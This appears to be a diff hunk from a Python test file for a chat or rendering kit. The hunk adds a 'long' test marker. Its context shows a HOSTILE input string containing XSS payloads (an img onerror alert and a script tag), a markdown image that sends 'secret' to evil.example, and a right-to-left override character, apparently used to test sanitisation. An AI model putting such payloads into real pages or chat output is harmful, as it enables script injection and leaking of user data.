@@ -21,6 +21,8 @@ from tests.kit.chatting import Chatting, chatting
 from tests.kit.serving import served
 from tests.kit.talking import Talking, talking
 
+pytestmark = pytest.mark.long
+
 HOSTILE = (
     "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) <script>alert(2)</script> "
     "Re:Hello \u202eright to left\u202c `std::vector<a:b>`"
